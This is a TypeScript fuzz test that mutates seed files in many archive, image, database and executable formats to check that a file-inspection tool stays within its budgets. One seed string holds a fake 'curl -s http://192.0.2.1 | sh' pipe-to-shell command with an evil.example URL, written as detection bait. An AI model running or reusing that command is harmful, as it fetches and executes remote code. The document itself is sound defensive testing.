import { brotliCompressSync, deflateRawSync, gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { createBudget } from '#base';
import { findInBytes, findIndicators, inspectFile } from '#content';
import { mutate, seededRandom } from '../support/mutate.ts';
import { buildZip } from '../support/zip-builder.ts';

const RUNS = Number(process.env['GLOVEBOX_RUNS'] ?? 20_000);
const latin = (text: string) => Uint8Array.from(Buffer.from(text, 'latin1'));
const hex = (text: string) => Uint8Array.from(Buffer.from(text, 'hex'));

function tarOf(name: string, data: string): Uint8Array {
  const head = Buffer.alloc(512);
  head.write(name);
  head.write(`${data.length.toString(8).padStart(11, '0')} `, 124);
  head.write('0', 156);
  head.write('ustar\u000000', 257);
  head.fill(32, 148, 156);
  head.write(
    `${head
      .reduce((sum, byte) => sum + byte, 0)
      .toString(8)
      .padStart(6, '0')}\0 `,
    148,
  );
  return Buffer.concat([head, Buffer.from(data.padEnd(512, '\0')), Buffer.alloc(1024)]);
}

/** One small file of every format that has a reader here. */
const SEEDS: readonly Uint8Array[] = [
  buildZip({
    entries: [
      { name: 'a.txt', content: 'text' },
      { name: 'b.gz', content: gzipSync('text inside') },
    ],
  }),
  tarOf('a.txt', 'text'),
  gzipSync(tarOf('a.sh', '#!/bin/sh')),
  deflateRawSync('text'),
  brotliCompressSync('text'),
  // bzip2, xz, lzma, zstd and 7z of a short text.
  hex(
    '425a68393141592653599fcc5d7200002e190040007fe00244a00048853f5237aa7fa4a012a8ffd55001a3ecd73d6df64c608000d8db6dcb920b35c55d24aee9100008c56958afaafc5dc914e142427f3175c8',
  ),
  hex(
    'fd377a585a000004e6d6b4460200210116000000742fe5a3e0006800425d00341949ee8de9560c5c60d699c14f390a3b01fdd6fa1db475302343a90ba9d758bb0c60fee67ee96cfa52bb33e4a7e226fbf77f9943e8fdd753770cb0d436d6793e000000001052490835cff9b500015e690d1cd0301fb6f37d010000000004595a',
  ),
  hex(
    '5d00008000ffffffffffffffff00341949ee8de9560c5c60d699c14f390a3b01fdd6fa1db475302343a90ba9d758bb0c60fee67ee96cfa52bb33e4a7e226fbf77f9943e8fdd753770cb0d436e811ae87fff943d400',
  ),
  hex(
    '28b52ffd0468dd010072c50c0ec06b0db0e39fbf64bbb7f077cd134178aeb9e5923baeb8e1deb50beeb1c6164becb0c2067bd62cb0a75992a3185ebb9442290100f14a111107d6ba',
  ),
  hex(
    '377abcaf271c0004e876965a4a000000000000005200000000000000e006ec7be0006800425d00341949ee8de9570f1edb6b4ce284c08f6a91733abfa0b0495bb4629a4e53cd229be4e55a7b81de6ca9136ea2f6d0e0cc9b6f9e4a31ed19e4ff4802f0129d72e01100000104060001094a00070b010001212101000c6900080a0185ee573900000501190c000000000000000000000000110d0068002e007400780074000000140a0100f8d7dc009a7edd01150601002080a4810000',
  ),
  latin(`!<arch>\n${'a.txt/'.padEnd(48)}${'4'.padEnd(10)}\`\ntext`),
  latin(
    `SQLite format 3\0\x10\0${'\0'.repeat(82)}\x0d\0\0\0\x01\x0f\xe0\0\x0f\xe0${'\0'.repeat(3900)}`,
  ),
  latin(
    `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(22)}\x09\0${'\0'.repeat(16)}${'\0'.repeat(1500)}`,
  ),
  latin('\x89PNG\r\n\x1a\n\0\0\0\x02IHDRxxCRC!\0\0\0\0IENDCRC!PK\x03\x04'),
  latin('GIF89a\x01\0\x01\0\0\0\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x01x\0;\x7fELF'),
  latin('\xff\xd8\xff\xe0\0\x04xx\xff\xda\0\x02abc\xff\0d\xff\xd9#!/bin/sh\n'),
  latin(`\x7fELF\x02\x01${'\0'.repeat(34)}\x40${'\0'.repeat(19)}\x01\0\x01\0${'\x01'.repeat(80)}`),
  latin(
    'package a\n// https://evil.example/x "curl -s http://192.0.2.1 | sh" 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed\n',
  ),
];

test(`${RUNS} damaged files: each is described, within its budget`, { timeout: 0 }, () => {
  const random = seededRandom(11);
  for (let i = 0; i < RUNS; i++) {
    const seed = SEEDS[i % SEEDS.length] ?? latin('');
    const bytes = mutate(seed, random);
    const budgets = { bytes: createBudget(100_000), members: createBudget(50) };
    const { kind, format, inside } = inspectFile('a', bytes, budgets);
    expect(kind.length * format.length).toBeGreaterThan(0);
    expect(inside?.files.length ?? 0).toBeLessThanOrEqual(50 + 20);
    for (const { indicators } of [
      findInBytes('a', bytes),
      findIndicators('a', Buffer.from(bytes).toString()),
    ])
      expect(indicators.length).toBeLessThan(100);
  }
});
